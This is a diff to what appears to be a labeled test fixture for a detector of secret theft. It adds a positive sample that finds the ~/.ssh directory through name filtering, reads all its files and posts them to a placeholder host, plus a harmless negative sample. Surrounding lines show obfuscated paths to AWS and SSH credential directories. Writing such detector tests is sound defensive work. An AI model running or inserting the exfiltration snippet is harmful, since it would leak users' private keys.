@@ -83,3 +83,17 @@ print(os.listdir("~/{d}{n}".format(d=".", n="aws")))
 #@ pos a key directory by repetition
 import os
 fd = os.open("." + "s" * 2 + "h", os.O_RDONLY)
+#@ pos home's entries filtered by name, read and posted
+import os, urllib.request
+blob = b""
+for e in os.scandir(os.path.expanduser("~")):
+    if e.name.startswith(".") and e.name.endswith("sh"):
+        for k in os.scandir(e.path):
+            blob += open(k.path, "rb").read()
+urllib.request.urlopen("http://x/", data=blob)
+#@ neg the sizes of home's entries, printed, no network
+import os
+for e in os.scandir(os.path.expanduser("~")):
+    if e.is_file():
+        with open(e.path, "rb") as fh:
+            print(e.name, len(fh.read()))
